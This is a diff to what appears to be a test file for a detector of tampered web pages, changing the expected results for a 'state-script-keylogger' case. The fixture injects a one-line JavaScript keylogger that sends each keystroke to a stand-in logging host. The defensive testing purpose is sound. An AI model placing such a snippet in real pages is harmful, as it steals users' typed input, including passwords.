@@ -46,7 +46,8 @@ export const carefulKinds: TamperKind[] = [
     name: 'state-script-keylogger',
     description: 'appends a keylogger to the state script whose length varies on every fetch',
     samplePath: '/',
-    expect: ['script_changed'],
+    // At a place the origin is known to vary the script is bound to every value it put there: a new one is "added".
+    expect: ['script_changed', 'script_added'],
     ...htmlEdit((h) => h.replace(/(window\.__state = [^<]*;)/, "$1document.addEventListener('keydown',function(e){(new Image).src='https://k.example-logger.com/k?'+e.key});")),
   }),
   kind({
